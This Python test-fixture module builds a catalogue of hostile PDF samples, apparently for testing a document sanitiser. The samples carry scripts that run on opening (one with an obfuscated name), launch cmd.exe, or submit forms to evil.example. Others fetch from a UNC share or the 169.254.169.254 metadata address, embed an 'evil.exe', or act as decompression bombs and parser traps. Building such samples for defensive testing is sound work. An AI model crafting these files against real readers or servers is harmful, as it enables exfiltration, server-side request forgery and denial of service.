"""PDFs that act by themselves, fetch, carry other files, or have no end."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from jingwei.foundation.files.tests.samples import document
from tests.hostile.beasts import MARK, Beast, End, beast
from tests.hostile.pictures import HTML, archive

PDF = {"file_name": "notice.pdf", "media_type": "application/pdf"}
Prepare = Callable[[pikepdf.Pdf], None]


def pdf(prepare: Prepare) -> Callable[[], bytes]:
    return lambda: document(prepare=prepare)


def opens_with(**action: object) -> Callable[[], bytes]:
    """A document that does something as soon as it is opened."""

    def prepare(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(**action)

    return pdf(prepare)


def annotated(**action: object) -> Callable[[], bytes]:
    """A document with a field that does something when touched."""

    def prepare(made: pikepdf.Pdf) -> None:
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=Dictionary(**action)
        )
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return pdf(prepare)


def _embedded(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + MARK, filename="evil.exe")


def _hidden_script(made: pikepdf.Pdf) -> None:
    deep = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    for _ in range(40):
        deep = Dictionary(Next=Array([deep]))
    made.Root.Names = Dictionary(Dests=deep)


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp>" + MARK + b"</xdp>"))


def _page_action(made: pikepdf.Pdf) -> None:
    made.pages[0].obj["/AA"] = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("1")))


def _film(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = Array(
        [made.make_indirect(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary()))]
    )
    made.Root.Extra = Dictionary(RichMedia=Dictionary())


def _elsewhere(made: pikepdf.Pdf) -> None:
    """A picture whose data lie at an address."""
    stream = made.make_stream(b"")
    stream["/F"] = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://169.254.169.254/"))
    stream["/Subtype"] = Name.Image
    made.pages[0].Resources = Dictionary(XObject=Dictionary(X=stream))


def _benign(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    with made.open_metadata() as meta:
        meta["dc:title"] = MARK.decode()


def spelled_oddly() -> bytes:
    """``/JavaScript`` with its letters written as numbers, as readers must understand."""
    content = document(
        prepare=lambda made: setattr(made.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=String("1"))),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    return content.replace(b"/JavaScript", b"/J#61v#61Scr#69pt").replace(b"/JS ", b"/#4aS ")


def of_many(count: int) -> bytes:
    """Objects without number."""
    body = b"".join(b"%d 0 obj\n[]\nendobj\n" % (number + 4) for number in range(count))
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
        + body
        + b"trailer\n<</Root 1 0 R>>\n%%EOF"
    )


def in_circles() -> bytes:
    """Pages that hold themselves."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>\n"
        b"endobj\ntrailer\n<</Root 1 0 R/Prev 9>>\n%%EOF"
    )


def deep(depth: int) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"
    )


def packed_stream(size: int, layers: int) -> Callable[[], bytes]:
    """A page that unpacks to far more than it holds."""

    def make() -> bytes:
        content = b"\0" * size
        for _ in range(layers):
            content = zlib.compress(content, 9)

        def prepare(made: pikepdf.Pdf) -> None:
            stream = pikepdf.Stream(made, content)
            stream.write(content, filter=Array([Name.FlateDecode] * layers))
            made.pages[0].Contents = stream

        return document(prepare=prepare)

    return make


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(document())) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="secret", user=""))
    return out.getvalue()


DOCUMENTS: list[Beast] = [
    beast("pdf with script on opening", opens_with(S=Name.JavaScript, JS=String("app.alert(1)")), **PDF),
    beast("pdf with script, oddly spelled", spelled_oddly, **PDF),
    beast("pdf with script deep inside", pdf(_hidden_script), **PDF),
    beast("pdf with script on a page", pdf(_page_action), **PDF),
    beast("pdf that starts a program", opens_with(S=Name.Launch, F=String("cmd.exe")), **PDF),
    beast("pdf that opens an address", opens_with(S=Name.URI, URI=String("https://evil.example/")), **PDF),
    beast(
        "pdf that opens a file elsewhere",
        opens_with(S=Name.GoToR, F=String("\\\\evil\\share\\x"), D=Array([0, Name.Fit])),
        **PDF,
    ),
    beast("pdf that opens a file inside", opens_with(S=Name.GoToE, T=Dictionary(R=Name.C)), **PDF),
    beast("pdf that sends a form", annotated(S=Name.SubmitForm, F=String("https://evil.example/")), **PDF),
    beast("pdf with a link that is script", annotated(S=Name.URI, URI=String("javascript:alert(1)")), **PDF),
    beast("pdf that imports data", annotated(S=Name.ImportData, F=String("x.fdf")), **PDF),
    beast(
        "pdf with a link to a share",
        annotated(S=Name.GoToR, F=String("\\\\evil\\share\\x"), D=String("a")),
        **PDF,
    ),
    beast("pdf with a program inside", pdf(_embedded), **PDF),
    beast("pdf with a form of script", pdf(_form), **PDF),
    beast("pdf with a film", pdf(_film), **PDF),
    beast("pdf whose picture lies elsewhere", pdf(_elsewhere), **PDF),
    beast("pdf with a lock", locked, **PDF),
    beast("pdf behind a page", lambda: HTML + document(), End.EITHER, **PDF),
    beast("pdf before a page", lambda: document() + HTML, End.CLEANED, **PDF),
    beast("pdf with an archive behind it", lambda: document() + archive(), End.CLEANED, **PDF),
    beast("pdf with script for a title", pdf(_benign), End.CLEANED, **PDF),
    beast("pdf of pages in circles", in_circles, **PDF),
    beast("pdf 200000 lists deep", lambda: deep(200_000), **PDF),
    beast("pdf of 100000 objects", lambda: of_many(100_000), End.EITHER, is_slow=True, **PDF),
    beast("pdf that unpacks to 256 MB", packed_stream(256 << 20, 1), End.EITHER, is_slow=True, **PDF),
    beast("pdf packed five times over", packed_stream(64 << 20, 5), End.EITHER, is_slow=True, **PDF),
    beast("pdf of nothing but its name", b"%PDF-1.7\n%%EOF", **PDF),
    beast("pdf torn", lambda: document()[:200], **PDF),
    beast("page that names a pdf", HTML + b"%PDF-1.7", **PDF),
]
